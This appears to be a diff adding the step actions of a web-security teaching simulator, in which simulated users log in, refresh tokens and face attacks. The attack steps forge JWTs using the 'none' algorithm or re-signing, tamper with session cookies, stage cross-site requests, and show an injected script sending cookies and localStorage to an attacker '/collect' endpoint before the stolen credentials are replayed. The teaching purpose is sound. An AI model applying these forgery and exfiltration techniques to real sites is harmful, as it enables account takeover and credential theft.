@@ -1,0 +1,354 @@
+"""What each step kind does, using the browsers the way a person and a page would.
+
+Actions only act; the engine records what they caused (through event subscriptions) and
+checks the step's expectations afterwards.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import warnings
+from collections.abc import Awaitable, Callable, Mapping
+from typing import Any
+from urllib.parse import urlencode
+
+import jwt
+
+from tutor.browser.browser import Browser
+from tutor.browser.events import Exchange, RequestBlocked
+from tutor.scenes.model import Step
+from tutor.scenes.world import World
+from tutor.server.signed import read_unverified
+
+
+class StepFailed(Exception):
+    """The step could not be carried out as written (say why, for the lesson author)."""
+
+
+Emit = Callable[[str, int | None], None]
+"""Report a user action: (text, login step or None)."""
+Action = Callable[[World, Step, Emit], Awaitable[None]]
+
+
+def _json(exchange: Exchange | RequestBlocked | None) -> dict[str, Any]:
+    if not isinstance(exchange, Exchange):
+        return {}
+    try:
+        body = json.loads(exchange.response.body)
+    except ValueError:
+        return {}
+    return body if isinstance(body, dict) else {}
+
+
+def _mode(world: World) -> str:
+    return world.scene.server.mode
+
+
+async def _on_site(world: World, browser: Browser) -> None:
+    """A page script can only run on a page: open the site's page first if needed."""
+    if browser.page_origin != world.site:
+        await browser.navigate(world.url("/"))
+
+
+def _tokens(world: World, browser: Browser) -> dict[str, str]:
+    return browser.storage("localStorage", world.site)
+
+
+def _auth_headers(world: World, step: Step, browser: Browser, method: str) -> dict[str, str]:
+    """What the site's own script adds: the bearer token, or the CSRF token on writes."""
+    headers: dict[str, str] = {}
+    if _mode(world) == "jwt":
+        token = _tokens(world, browser).get("access_token")
+        if token:
+            headers["Authorization"] = f"Bearer {token}"
+    elif method not in ("GET", "HEAD"):
+        csrf = world.pages[browser.name].csrf_token
+        if csrf:
+            headers["X-CSRF-Token"] = csrf
+    return headers
+
+
+def _keep_tokens(world: World, browser: Browser, body: Mapping[str, Any]) -> None:
+    """The page script saves tokens where the jwt page does: in localStorage."""
+    page = world.pages[browser.name]
+    if "access_token" in body:
+        old = _tokens(world, browser).get("refresh_token")
+        if old:
+            page.previous_refresh_token = old
+        browser.store("localStorage", world.site, "access_token", str(body["access_token"]))
+        browser.store("localStorage", world.site, "refresh_token", str(body["refresh_token"]))
+    if "csrf_token" in body:
+        page.csrf_token = str(body["csrf_token"])
+
+
+async def visit(world: World, step: Step, emit: Emit) -> None:
+    await world.browser(step.actor).navigate(world.url(step.params["path"]))
+
+
+async def login(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    username = step.params.get("username", "alice")
+    password = step.params.get("password", "wonderland")
+    emit(f"{step.actor} types {username} and a password into the login form", 1)
+    await _on_site(world, browser)
+    via = step.params.get("via") or ("json" if _mode(world) == "jwt" else "form")
+    if via == "json":
+        result = await browser.fetch(world.url("/login"), "POST",
+                                     json={"username": username, "password": password})
+        if isinstance(result, Exchange) and result.response.status == 200:
+            _keep_tokens(world, browser, _json(result))
+        return
+    if _mode(world) == "jwt":
+        raise StepFailed("jwt mode logs in with a script (via: json), not a form post")
+    exchanges = await browser.submit_form(world.url("/login"),
+                                          {"username": username, "password": password})
+    _keep_tokens(world, browser, _json(exchanges[-1]))
+
+
+async def request(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    params = step.params
+    method = str(params.get("method", "GET")).upper()
+    credential = params.get("credential", "auto")
+    url = world.url(params["path"])
+    if params.get("via") == "navigate":
+        if credential == "none":
+            raise StepFailed("a navigation always sends the jar's cookies; use via: fetch")
+        if method == "GET":
+            await browser.navigate(url, from_page=browser.page_origin == world.site)
+        else:
+            await browser.submit_form(url, {k: str(v) for k, v in params.get("form", {}).items()},
+                                      method)
+        return
+    await _on_site(world, browser)
+    headers = _auth_headers(world, step, browser, method) if credential == "auto" else {}
+    headers.update({str(k): str(v) for k, v in params.get("headers", {}).items()})
+    body = None
+    if "form" in params:
+        body = urlencode({str(k): str(v) for k, v in params["form"].items()})
+        headers.setdefault("Content-Type", "application/x-www-form-urlencoded")
+    result = await browser.fetch(
+        url, method, headers=headers, body=body, json=params.get("json"),
+        credentials="omit" if credential == "none" else "same-origin",
+    )
+    _keep_tokens(world, browser, _json(result))
+
+
+async def logout(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    await _on_site(world, browser)
+    headers = _auth_headers(world, step, browser, "POST")
+    if step.params.get("csrf_token") is False:
+        headers.pop("X-CSRF-Token", None)
+    await browser.fetch(world.url("/logout"), "POST", headers=headers)
+    if _mode(world) == "jwt" and step.params.get("forget_token", True):
+        # The page deletes its copies; this revokes nothing on the server by itself.
+        browser.store("localStorage", world.site, "access_token", None)
+        browser.store("localStorage", world.site, "refresh_token", None)
+
+
+async def refresh(world: World, step: Step, emit: Emit) -> None:
+    if _mode(world) != "jwt":
+        raise StepFailed("refresh tokens exist only in jwt mode")
+    browser = world.browser(step.actor)
+    await _on_site(world, browser)
+    if step.params.get("token", "current") == "previous":
+        token = world.pages[browser.name].previous_refresh_token
+    else:
+        token = _tokens(world, browser).get("refresh_token")
+    if not token:
+        raise StepFailed("no refresh token to use: log in (and refresh once for `previous`)")
+    result = await browser.fetch(world.url("/refresh"), "POST", json={"refresh_token": token})
+    if isinstance(result, Exchange) and result.response.status == 200:
+        _keep_tokens(world, browser, _json(result))
+
+
+async def advance_clock(world: World, step: Step, emit: Emit) -> None:
+    seconds = step.params["seconds"]
+    if seconds < 0:
+        raise StepFailed("the clock only moves forward")
+    world.clock.advance(seconds)
+    world.server.sweep()
+    for browser in world.browsers.values():
+        browser.expire_cookies()
+
+
+def _b64(data: Mapping[str, Any]) -> str:
+    raw = json.dumps(data, separators=(",", ":")).encode()
+    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
+
+
+async def tamper_token(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    token = _tokens(world, browser).get("access_token")
+    if not token:
+        raise StepFailed("no access token in localStorage to tamper with")
+    header = jwt.get_unverified_header(token)
+    claims = jwt.decode(token, options={"verify_signature": False})
+    header.update(step.params.get("header", {}))
+    claims.update(step.params.get("claims", {}))
+    signature = step.params.get("signature", "keep")
+    emit(f"{step.actor} edits the token in devtools ({signature} signature)", None)
+    if signature == "none":
+        header["alg"] = "none"
+        forged = f"{_b64(header)}.{_b64(claims)}."
+    elif signature == "resign":
+        secret = step.params.get("secret")
+        if not secret:
+            raise StepFailed("signature: resign needs the `secret` to sign with")
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore", jwt.InsecureKeyLengthWarning)
+            forged = jwt.encode(claims, secret, algorithm="HS256",
+                                headers={k: v for k, v in header.items() if k != "alg"})
+    else:
+        forged = f"{_b64(header)}.{_b64(claims)}.{token.rsplit('.', 1)[1]}"
+    browser.store("localStorage", world.site, "access_token", forged)
+
+
+async def tamper_cookie(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    name = step.params.get("name") or _session_cookie_name(world, browser)
+    cookie = next((c for c in browser.jar.cookies() if c.name == name), None)
+    if cookie is None:
+        raise StepFailed(f"no cookie {name!r} in the jar to tamper with")
+    data = read_unverified(cookie.value)
+    if data is None:
+        raise StepFailed(f"cookie {name!r} does not hold readable session data")
+    data.update(step.params["set"])
+    payload = base64.urlsafe_b64encode(json.dumps(data, separators=(",", ":")).encode())
+    rest = cookie.value.split(".", 1)[1]
+    emit(f"{step.actor} edits the {name} cookie in devtools, keeping its signature", None)
+    browser.jar.devtools_set(cookie, f"{payload.decode()}.{rest}")
+
+
+def _session_cookie_name(world: World, browser: Browser) -> str:
+    names = {c.name for c in browser.jar.cookies()}
+    for candidate in ("__Host-session", "session", "__Host-sid", "sid"):
+        if candidate in names:
+            return candidate
+    raise StepFailed("no session cookie in the jar")
+
+
+async def cross_site_request(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    origin = step.params.get("from", world.attacker_origin)
+    emit(f"{step.actor} opens a page on {origin}", None)
+    await browser.navigate(f"{origin}/")
+    url = world.url(step.params["path"])
+    method = str(step.params.get("method", "POST")).upper()
+    fields = {str(k): str(v) for k, v in step.params.get("fields", {}).items()}
+    kind = step.params.get("kind", "form")
+    if kind == "form":
+        await browser.submit_form(url, fields, method)
+    elif kind == "navigate":
+        await browser.navigate(url, from_page=True)
+    else:
+        body = urlencode(fields) if fields else None
+        headers = {"Content-Type": "application/x-www-form-urlencoded"} if fields else {}
+        await browser.fetch(url, method, headers=headers, body=body, credentials="include")
+
+
+async def xss_steal(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    await _on_site(world, browser)
+    reads = step.params.get("read", ["document.cookie", "localStorage"])
+    reads = [reads] if isinstance(reads, str) else reads
+    emit(f"an injected script runs in {world.site}'s page", None)
+    script = browser.script()
+    for what in reads:
+        if what == "document.cookie":
+            value = script.document_cookie()
+        elif what in ("localStorage", "sessionStorage"):
+            value = json.dumps(script.storage(what), sort_keys=True)
+        else:
+            raise StepFailed(f"a script can read document.cookie, localStorage or "
+                             f"sessionStorage, not {what!r}")
+        query = urlencode({"what": what, "value": value})
+        await script.fetch(f"{world.attacker_origin}/collect?{query}", "GET",
+                           credentials="omit")
+
+
+async def capture(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    emit(f"a copy of {step.actor}'s credentials is taken (a shared computer, a log, a proxy)",
+         None)
+    world.captured = {c.name: c.value for c in browser.jar.cookies()}
+    world.captured.update(_tokens(world, browser))
+
+
+async def replay(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    use = step.params.get("use", "captured")
+    headers: dict[str, str] = {}
+    if use == "document.cookie":
+        loot = world.attacker.latest("document.cookie")
+        if loot is None or not loot.value:
+            raise StepFailed("the attacker has no stolen document.cookie to replay")
+        headers["Cookie"] = loot.value
+    elif use == "localStorage":
+        loot = world.attacker.latest("localStorage")
+        token = json.loads(loot.value).get("access_token") if loot else None
+        if not token:
+            raise StepFailed("the attacker has no stolen access token to replay")
+        headers["Authorization"] = f"Bearer {token}"
+    else:
+        if not world.captured:
+            raise StepFailed("nothing was captured: add a `capture` step first")
+        if "access_token" in world.captured:
+            headers["Authorization"] = f"Bearer {world.captured['access_token']}"
+        cookies = {k: v for k, v in world.captured.items()
+                   if k not in ("access_token", "refresh_token")}
+        if cookies:
+            headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
+    emit(f"{step.actor} replays the credential with a plain HTTP client", None)
+    method = str(step.params.get("method", "GET")).upper()
+    await browser.send_raw(method, world.url(step.params["path"]), headers)
+
+
+async def switch_replica(world: World, step: Step, emit: Emit) -> None:
+    name = step.params["replica"]
+    if name in ("round-robin", "any"):
+        world.pin_replica(None)
+        return
+    try:
+        world.pin_replica(name.upper())
+    except KeyError as exc:
+        raise StepFailed(str(exc.args[0])) from None
+
+
+async def change_password(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    await _on_site(world, browser)
+    emit(f"{step.actor} changes their password", None)
+    result = await browser.fetch(
+        world.url("/password"), "POST", headers=_auth_headers(world, step, browser, "POST"),
+        json={"current_password": step.params.get("current", "wonderland"),
+              "new_password": step.params["new"]},
+    )
+    _keep_tokens(world, browser, _json(result))
+
+
+async def clear_credential(world: World, step: Step, emit: Emit) -> None:
+    browser = world.browser(step.actor)
+    emit(f"{step.actor}'s client deletes its copy of the credential", None)
+    if _mode(world) == "jwt":
+        browser.store("localStorage", world.site, "access_token", None)
+        browser.store("localStorage", world.site, "refresh_token", None)
+    else:
+        browser.clear_site_cookies(world.site)
+
+
+async def restart_browser(world: World, step: Step, emit: Emit) -> None:
+    emit(f"{step.actor} closes and reopens the browser", None)
+    world.browser(step.actor).restart()
+
+
+ACTIONS: dict[str, Action] = {
+    "visit": visit, "login": login, "request": request, "logout": logout,
+    "refresh": refresh, "advance_clock": advance_clock, "tamper_token": tamper_token,
+    "tamper_cookie": tamper_cookie, "cross_site_request": cross_site_request,
+    "xss_steal": xss_steal, "capture": capture, "replay": replay,
+    "switch_replica": switch_replica, "change_password": change_password,
+    "clear_credential": clear_credential, "restart_browser": restart_browser,
+}
